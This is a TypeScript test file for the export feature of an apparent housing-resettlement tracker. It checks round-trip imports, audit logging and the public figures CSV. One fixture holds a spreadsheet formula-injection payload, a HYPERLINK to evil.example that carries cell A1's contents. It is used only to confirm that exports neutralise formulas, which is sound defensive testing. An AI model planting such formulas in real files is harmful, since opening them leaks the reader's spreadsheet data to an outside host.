// Exports in the importer's format: a round trip changes nothing; text is neutralised against
// formula injection; the public figures CSV; every export is audited.
import ExcelJS from 'exceljs';
import request from 'supertest';
import { parse } from 'csv-parse/sync';
import { generateDemo } from '../../seeds/demo';
import { addProject, addVillage } from '../helpers/fixtures';
import { createStaffContext, csrfOf, signedIn, type StaffContext } from '../helpers/staff-agent';
import { auditRows, dumpData } from '../helpers/import-files';
import { mainText } from '../helpers/html';

let ctx: StaffContext;
let staff: Awaited<ReturnType<typeof signedIn>>;
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

beforeAll(async () => {
  ctx = await createStaffContext();
  await ctx.db.transaction().execute((trx) => generateDemo(trx, { seed: 7, villages: 2, asOf: '2026-11-26', now: '2026-11-26T00:00:00.000Z' }));
  const village = await addVillage(ctx.db, { districtId: 1, nameZh: '@村' });
  const projectId = await addProject(ctx.db, { villageId: village, nameZh: HOSTILE, plannedFloorAreaM2: 1234.5 });
  await ctx.db.updateTable('projects').set({ developer: '+86 开发', construction_entity: "'=已经加过引号", land_area_m2: 1234.5 }).where('id', '=', projectId).execute();
  const source = await ctx.db.insertInto('sources').values({ kind: 'staff_entry', title: '-来源', publisher: null, published_on: null, url: null, excerpt: null, note: null }).returning('id').executeTakeFirstOrThrow();
  const report = (o: { village_id?: number | null; project_id?: number | null; as_of: string; started: number; reason?: string }) => ctx.db.insertInto('progress_reports').values({
    scope_type: o.project_id ? 'project' : 'village', district_id: null, village_id: o.village_id ?? null, project_id: o.project_id ?? null, as_of: o.as_of,
    planned_area_m2: 5000, started_area_m2: o.started, delivered_area_m2: null, households_entitled: 10, households_returned: 3, people_entitled: 30,
    people_returned: 9, published_start_rate: 0.5, published_delivery_rate: null, published_return_rate: 0.3, source_id: source.id, note: '内部备注',
    is_correction: o.reason ? 1 : 0, correction_reason: o.reason ?? null, created_at: '2026-11-26T00:00:00.000Z',
  }).execute();
  await report({ village_id: village, as_of: '2024-01-01', started: 2000 });
  await report({ project_id: projectId, as_of: '2024-02-01', started: 3000 });
  await report({ project_id: projectId, as_of: '2024-03-01', started: 2500, reason: '重新测量' });
  // Uncoded buildings that differ from each other: a round trip must put each row back on its own building.
  for (let seq = 1; seq <= 8; seq++) await ctx.db.updateTable('buildings').set({ floor_area_m2: 1000 + seq, floors: 10 + seq }).where('batch_id', '=', 1).where('seq', '=', seq).execute();
  staff = await signedIn(ctx, 'staff', 'zhang-san');
});
afterAll(async () => { await ctx.close(); });

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};
const download = async (url: string, agent = staff) => {
  const res = await agent.get(url).buffer(true).parse(binary as never);
  expect(res.status).toBe(200);
  return res as request.Response & { body: Buffer };
};

async function importAndCommit(files: { name: string; data: Buffer }[]) {
  const token = csrfOf((await staff.get('/admin/import')).text);
  let req = staff.post('/admin/import/preview').field('_csrf', token);
  for (const f of files) req = req.attach('files', f.data, f.name);
  const preview = await req;
  expect(mainText(preview.text)).not.toContain('文件有问题');
  expect(preview.status).toBe(200);
  const upload = /name="upload" value="([^"]+)"/.exec(preview.text)![1]!;
  const commit = await staff.post('/admin/import/commit').type('form').send({ _csrf: token, upload });
  let state = 'running';
  for (let i = 0; i < 100 && state === 'running'; i++) state = (await staff.get(`${commit.headers.location}?format=json`)).body.state;
  expect(state).toBe('done');
  return preview.text;
}

const countsOf = (html: string) =>
  [...html.matchAll(/data-table="(\w+)"><th scope="row">[^<]*<\/th><td class="num">(\d+)<\/td><td class="num">(\d+)<\/td><td class="num">(\d+)<\/td>/g)]
    .map((m) => [m[1], Number(m[2]), Number(m[3]), Number(m[4])]);

test('an XLSX export of all five tables imports back changing nothing', async () => {
  const before = await dumpData(ctx.db);
  const book = await download('/admin/export?format=xlsx&table=all');
  expect(book.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  expect(book.headers['content-disposition']).toMatch(/^attachment; filename="?tracker-2026-11-26\.xlsx/);
  const preview = await importAndCommit([{ name: 'tracker.xlsx', data: book.body }]);
  expect(preview).toContain('id="import-nothing"');
  const counts = countsOf(preview);
  expect(counts.map((c) => c[0])).toEqual(['projects', 'buildings', 'reports', 'households', 'allowance_rules', 'batches']);
  // the demo district's delivered batches have household records, and it has a demo allowance rule: they round-trip too
  for (const [, create, update, unchanged] of counts) {
    expect([create, update]).toEqual([0, 0]);
    expect(unchanged).toBeGreaterThan(0);
  }
  expect(await dumpData(ctx.db)).toEqual(before);
});

test('CSV exports in English import back changing nothing', async () => {
  const before = await dumpData(ctx.db);
  const files = [];
  for (const table of ['projects', 'buildings', 'reports']) {
    const res = await download(`/admin/export?format=csv&table=${table}&lang=en`);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    files.push({ name: `${table}.csv`, data: res.body });
  }
  expect(files[1]!.data.toString('utf8')).toContain('landscaping');
  const preview = await importAndCommit(files);
  expect(preview).toContain('id="import-nothing"');
  expect(await dumpData(ctx.db)).toEqual(before);
  await staff.get('/admin?lang=zh');
});

test('text that a spreadsheet would run as a formula is neutralised in CSV and XLSX, and imports back exactly', async () => {
  const text = (await download('/admin/export?format=csv&table=projects')).body.toString('utf8');
  const cells = (parse(text, { bom: true }) as string[][]).flat();
  expect(cells).toContain(`'${HOSTILE}`);
  expect(cells).toContain("'+86 开发");
  expect(cells).toContain("''=已经加过引号");
  for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  const reports = (parse((await download('/admin/export?format=csv&table=reports')).body.toString('utf8'), { bom: true }) as string[][]).flat();
  expect(reports).toContain("'-来源");
  expect(reports).toContain(`'@村/${HOSTILE}`);

  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await download('/admin/export?format=xlsx')).body as unknown as ArrayBuffer);
  const strings: string[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => { if (typeof cell.value === 'string') strings.push(cell.value); })));
  expect(strings).toContain(`'${HOSTILE}`);
  for (const s of strings) expect(s).not.toMatch(/^[=+\-@\t\r]/);
  const p = await ctx.db.selectFrom('projects').select(['name_zh', 'developer', 'construction_entity']).where('name_zh', '=', HOSTILE).executeTakeFirstOrThrow();
  expect(p).toEqual({ name_zh: HOSTILE, developer: '+86 开发', construction_entity: "'=已经加过引号" });
});

test('editing an export changes only what was edited', async () => {
  const text = (await download('/admin/export?format=csv&table=buildings&lang=en')).body.toString('utf8');
  const edited = text.replace(/(\r\n[^\r\n]*?,1#,)(\d+)/, (_m: string, head: string) => `${head}4321`);
  expect(edited).not.toBe(text);
  const preview = await importAndCommit([{ name: 'b.csv', data: Buffer.from(edited) }]);
  const buildings = countsOf(preview).find((c) => c[0] === 'buildings')!;
  expect(buildings.slice(1, 3)).toEqual([0, 1]);
  expect(await ctx.db.selectFrom('buildings').select('id').where('floor_area_m2', '=', 4321).execute()).toHaveLength(1);
});

test('exports are audited with their row counts; bad parameters are refused', async () => {
  const before = (await auditRows(ctx.db, 'export')).length;
  await download('/admin/export?format=csv&table=reports');
  const rows = await auditRows(ctx.db, 'export');
  expect(rows).toHaveLength(before + 1);
  expect(rows.at(-1)).toMatchObject({ username: 'zhang-san', object_type: 'export', result: 'ok' });
  expect(JSON.parse(rows.at(-1)!.after_json!).rows.reports).toBe(4);
  for (const url of ['/admin/export?format=pdf', '/admin/export?format=csv', '/admin/export?format=csv&table=users', '/admin/export?table=projects']) {
    expect((await staff.get(url)).status).toBe(400);
  }
  const page = await staff.get('/admin/export');
  expect(page.status).toBe(200);
  expect(page.text).toContain('href="/export/public.csv"');
});

describe('public figures CSV', () => {
  test('anyone may download it: UTF-8 with a BOM, public figures only, demonstration rows flagged', async () => {
    const res = await request(ctx.app).get('/export/public.csv').buffer(true).parse(binary as never);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parse(body.toString('utf8'), { bom: true }) as string[][];
    expect(header).toEqual(['区', '村', '项目', '类型', '项目状态', '建设进度', '开工率', '竣工交付率', '下一个交付节点', '节点状态', '最近更新', '演示数据', '原定交付节点',
      '安置户数', '已选房户数', '已交房户数', '已入住户数', '已办证户数', '交房率', '回迁入住率', '户数截至']);
    const zhao = rows.find((r) => r[2] === '赵村城中村改造安置住宅')!;
    expect(zhao).toEqual(['郑州高新技术产业开发区', '赵村', '赵村城中村改造安置住宅', '安置房', '在建', expect.stringMatching(/^0\.\d+$/), '', '', '2023', '已逾期', '2023-11-08', '否', '2023', '', '', '', '', '', '', '', '']);
    expect(rows.filter((r) => r[11] === '是').length).toBeGreaterThan(0);
    expect(rows.every((r) => r[11] === (r[0]!.includes('演示') ? '是' : '否'))).toBe(true);
    const text = body.toString('utf8');
    for (const secret of ['zhang-san', 'staff', '内部备注', '来源未给出', 'cli']) expect(text).not.toContain(secret);
    expect(rows.flat().every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
  });

  test('in English on request; an anonymous download is a public read and adds nothing to the audit log', async () => {
    const before = (await auditRows(ctx.db, 'export')).length;
    const res = await request(ctx.app).get('/export/public.csv?lang=en');
    const [header] = parse(res.text, { bom: true }) as string[][];
    expect(header).toEqual(['district', 'village', 'project', 'kind', 'status', 'constructionProgress', 'startRate', 'deliveryRate', 'nextDeadline', 'nextDeadlineStatus', 'lastUpdate', 'isDemo', 'nextDeadlineOriginal',
      'households', 'householdsAllocated', 'householdsHandedOver', 'householdsMovedIn', 'householdsCertificates', 'handoverRate', 'householdReturnRate', 'householdsAsOf']);
    expect(await auditRows(ctx.db, 'export')).toHaveLength(before);
  });
});
